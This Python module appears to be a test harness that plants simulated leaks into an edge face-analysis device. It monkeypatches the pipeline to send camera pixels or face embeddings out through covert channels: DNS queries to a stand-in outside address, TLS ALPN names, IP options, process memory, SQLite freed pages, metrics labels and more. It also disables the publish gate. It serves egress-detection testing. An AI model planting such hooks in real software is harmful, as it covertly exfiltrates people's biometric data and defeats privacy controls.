"""Leaks that are planted into the device's process, one a run: started in its place, never imported.

Each takes real pixels or a real embedding out of the running pipeline and tries one way out of the process.
"""

from __future__ import annotations

import base64
import ctypes
import logging
import mmap
import os
import runpy
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import cv2
import msgspec
import numpy as np

import edge.device
from edge.affect.backbone import Backbone
from edge.publish.gate import Gate, GateError
from edge.publish.outbox import Outbox
from edge.publish.session import Message, Session

SHARED = Path("/dev/shm/affect-edge-planted-leak")


def at_first_frame(leak: Callable[[Any], None]) -> None:
    """Calls a leak with the pixels of the first frame, uint8 (H, W, 3)."""
    done: list[bool] = []
    look = edge.device.Device.look

    def leaking(device: Any, frame: Any, plan: Any) -> Any:
        if not done:
            done.append(True)
            leak(frame.pixels)
        return look(device, frame, plan)

    edge.device.Device.look = leaking


def jpeg(pixels: Any) -> bytes:
    return cv2.imencode(".jpg", cv2.resize(pixels, (64, 48)))[1].tobytes()


def hexed(pixels: Any) -> bytes:
    """Twenty pixels as 60 characters."""
    return pixels[:1, :10].tobytes().hex().encode()


def crop_to_file() -> None:
    align = edge.device.align_face

    def leaking(*values: Any) -> Any:
        crop = align(*values)
        Path("crop.raw").write_bytes(crop.tobytes())
        return crop

    edge.device.align_face = leaking


def embedding_to_file() -> None:
    embed_all = Backbone.embed_all

    def leaking(self: Any, crops: Any) -> Any:
        embeddings = embed_all(self, crops)
        if embeddings:
            np.save("embedding.npy", embeddings[0].vector)
        return embeddings

    Backbone.embed_all = leaking


def _past_the_gate(change: Callable[[dict[str, Any]], Any]) -> None:
    """Sends each window as a leak changes it; the gate stops nothing but what it is tried with at the start."""
    send = Session.send

    def blind(_gate: Any, _topic: str, payload: bytes) -> None:
        if b"planted" in payload:
            raise GateError("planted")

    def leaking(session: Any, message: Message) -> int:
        if message.topic.endswith("/window"):
            changed = change(msgspec.json.decode(message.payload))
            message = message._replace(payload=changed if isinstance(changed, bytes) else msgspec.json.encode(changed))
        return send(session, message)

    Gate.check, Session.send = blind, leaking


def embedding_in_payload() -> None:
    """As an extra field."""
    vectors: list[list[float]] = []
    embed_all = Backbone.embed_all

    def embedding(self: Any, crops: Any) -> Any:
        found = embed_all(self, crops)
        vectors.extend(each.vector[:16].tolist() for each in found)
        return found

    Backbone.embed_all = embedding
    _past_the_gate(lambda window: window | {"embedding": vectors[-1]})


def jpeg_over_mqtt() -> None:
    """As a message's payload."""
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    _past_the_gate(lambda _window: pictures[0])


def thumbnail_in_model_name() -> None:
    """Four by four grey pixels as the 32 characters that a model's name may have."""
    names: list[str] = []
    at_first_frame(lambda pixels: names.append(cv2.resize(pixels[..., 1], (4, 4)).tobytes().hex()))
    _past_the_gate(lambda window: window | {"model": window["model"] | {"name": names[0]}})


def pixels_in_decimals() -> None:
    """A pixel in the decimals behind the rounding."""
    pixels: list[int] = []
    at_first_frame(lambda frame: pixels.append(int(frame[100, 100, 0])))
    _past_the_gate(lambda window: window | {"observed_s": window["observed_s"] + pixels[0] * 1e-6})


def pixels_in_log() -> None:
    """In the place of a text of a line that the device has."""

    def leak(pixels: Any) -> None:
        text = base64.b64encode(jpeg(pixels)).decode()
        logging.getLogger("edge.publish.connection_log").info("%s: connected", text)

    at_first_frame(leak)


def picture_to_stdout() -> None:
    at_first_frame(lambda pixels: os.write(1, jpeg(pixels)))


def _send_datagram(address: tuple[str, int], make: Callable[[Any], bytes]) -> None:
    def leak(pixels: Any) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out, suppress(OSError):  # a machine without a network
            out.sendto(make(pixels), address)

    at_first_frame(leak)


def _question(*labels: bytes) -> bytes:
    name = b"".join(bytes([len(part)]) + part for part in labels)
    return b"\0\1\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1"


def udp_packet() -> None:
    _send_datagram(("127.0.0.1", 9), jpeg)


def dns_label() -> None:
    """A question for a name whose first label is pixels."""
    _send_datagram(("127.0.0.1", 53), lambda pixels: _question(hexed(pixels), b"example", b"org"))


def dns_with_jpeg_to_outside() -> None:
    """A question for the broker's name with a picture behind it, to a server of somebody else."""
    _send_datagram(("192.0.2.1", 53), lambda pixels: _question(b"localhost") + jpeg(pixels))


def dns_with_jpeg() -> None:
    """The same to the machine's own server, which may pass it on."""
    _send_datagram(("127.0.0.1", 53), lambda pixels: _question(b"localhost") + jpeg(pixels))


def dns_to_another_server() -> None:
    """A pixel in the number of a question that is right, to a server of somebody else."""
    _send_datagram(("192.0.2.1", 53), lambda pixels: pixels[0, 0, :2].tobytes() + _question(b"localhost")[2:])


def socket_option() -> None:
    """IP options travel in the head of each packet."""
    _after_first_send(
        lambda connection, data: connection.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\xde\x28" + data[:38])
    )


def folder_name() -> None:
    at_first_frame(lambda pixels: Path(hexed(pixels).decode()).mkdir())


def path_that_is_looked_up() -> None:
    """Where /net is mounted automatically, looking asks the network."""
    at_first_frame(lambda pixels: Path("/net", hexed(pixels).decode()).exists())


def abstract_socket() -> None:
    """Every process of the machine can read such a name in /proc/net/unix."""
    held = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    at_first_frame(lambda pixels: held.bind(b"\0" + hexed(pixels)))


def command_line() -> None:
    """What `ps` shows, overwritten in memory: no system call has it."""

    def leak(pixels: Any) -> None:
        begin, end = map(int, Path("/proc/self/stat").read_text().rpartition(")")[2].split()[45:47])
        ctypes.memmove(begin, pixels.tobytes().hex().encode(), end - begin - 1)

    at_first_frame(leak)


def time_of_a_log_line() -> None:
    """Pixels as the seconds since 1970."""

    def leak(pixels: Any) -> None:
        record = logging.LogRecord("edge", logging.INFO, "", 0, "stopped after %d frames", (7,), None)
        record.created = float(int.from_bytes(pixels[0, 0].tobytes(), "big") * 100)
        logging.getLogger().handle(record)

    at_first_frame(leak)


def metric_label() -> None:
    """The frame is held until somebody has asked for metrics."""
    from prometheus_client.core import GaugeMetricFamily

    from edge.publish.prometheus import Collector

    collect, pixels, asked = Collector.collect, [], threading.Event()

    def leaking(self: Any) -> Any:
        yield from collect(self)
        if pixels:
            family = GaugeMetricFamily("affect_edge_faces", "Faces in view.", labels=["site"])
            family.add_metric([hexed(pixels[0]).decode()], 1)
            yield family
            asked.set()

    def leak(frame: Any) -> None:
        pixels.append(frame)
        asked.wait(30)
        time.sleep(0.5)  # until it was sent

    Collector.collect = leaking
    at_first_frame(leak)


def _before_connecting(leak: Callable[[Any, bytes], None]) -> None:
    """Calls a leak with the session and 30 characters of pixels before the session begins."""
    pixels: list[bytes] = []
    seen = threading.Event()
    at_first_frame(lambda frame: (pixels.append(hexed(frame)[:30]), seen.set()))
    begin = Session.open

    def leaking(session: Any) -> None:
        if seen.wait(30):
            leak(session, pixels[0])
        begin(session)

    Session.open = leaking


def client_id() -> None:
    def leak(session: Any, text: bytes) -> None:
        session._client._client_id += b"-" + text

    _before_connecting(leak)


def tls_protocol_name() -> None:
    """In the first message of TLS, which is not encrypted."""
    _before_connecting(lambda session, text: session._client._ssl_context.set_alpn_protocols([text.decode()]))


def user_property() -> None:
    """Beside a window, not in it."""
    import paho.mqtt.client as paho

    pixels: list[str] = []
    at_first_frame(lambda frame: pixels.append(hexed(frame).decode()))
    publish = paho.Client.publish

    def leaking(client: Any, topic: str, payload: Any, qos: int, retain: bool, properties: Any) -> Any:
        if properties is not None and pixels:
            properties.UserProperty = ("p", pixels[0])
        return publish(client, topic, payload, qos, retain, properties)

    paho.Client.publish = leaking


def shared_memory() -> None:
    """Written through a mapping: no system call ever has the bytes."""

    def leak(pixels: Any) -> None:
        data = pixels.tobytes()
        with SHARED.open("w+b") as file:
            os.ftruncate(file.fileno(), len(data))
            with mmap.mmap(file.fileno(), len(data)) as memory:
                memory[:] = data

    at_first_frame(leak)


def _after_first_send(leak: Callable[[Any, bytes], None]) -> None:
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    send = Session.send

    def leaking(session: Any, message: Message) -> int:
        number = send(session, message)
        if pictures:
            leak(session._client.socket(), pictures.pop())
        return number

    Session.send = leaking


def extra_bytes_above_tls() -> None:
    """Encrypted, but no MQTT packet."""
    _after_first_send(lambda connection, data: connection.send(data))


def extra_bytes_below_tls() -> None:
    """On the same connection, but not encrypted by it."""
    _after_first_send(lambda connection, data: os.write(connection.fileno(), data))


def row_in_outbox() -> None:
    """Written and deleted again: the final database does not show it."""
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    keep = Outbox.keep

    def leaking(outbox: Any, *values: Any) -> Any:
        sqlite = outbox._file._sqlite
        sqlite.execute("INSERT INTO windows VALUES (?, ?, ?)", (10**9, pictures[0], 0))
        sqlite.execute("DELETE FROM windows WHERE key = ?", (10**9,))
        return keep(outbox, *values)

    Outbox.keep = leaking


def left_in_a_page() -> None:
    """Written and deleted in one transaction, by a database that does not clear what it frees."""
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    keep = Outbox.keep

    def leaking(outbox: Any, *values: Any) -> Any:
        sqlite: sqlite3.Connection = outbox._file._sqlite
        for line in ("PRAGMA secure_delete = OFF", "BEGIN"):
            sqlite.execute(line)
        sqlite.execute("INSERT INTO windows (key, data) VALUES (?, ?)", (10**9, pictures[0]))
        sqlite.execute("DELETE FROM windows WHERE key = ?", (10**9,))
        sqlite.execute("COMMIT")
        return keep(outbox, *values)

    Outbox.keep = leaking


def child_process() -> None:
    """In its arguments."""
    at_first_frame(lambda pixels: subprocess.run(["/bin/true", hexed(pixels)], check=False))


def environment_of_a_child() -> None:
    at_first_frame(lambda pixels: subprocess.run(["/bin/true"], env={"P": hexed(pixels).decode()}, check=False))


if __name__ == "__main__":
    {name: leak for name, leak in globals().items() if callable(leak)}[os.environ["EGRESS_LEAK"]]()
    sys.path.pop(0)  # this folder: the device imports nothing from here
    runpy.run_module("edge", run_name="__main__", alter_sys=True)
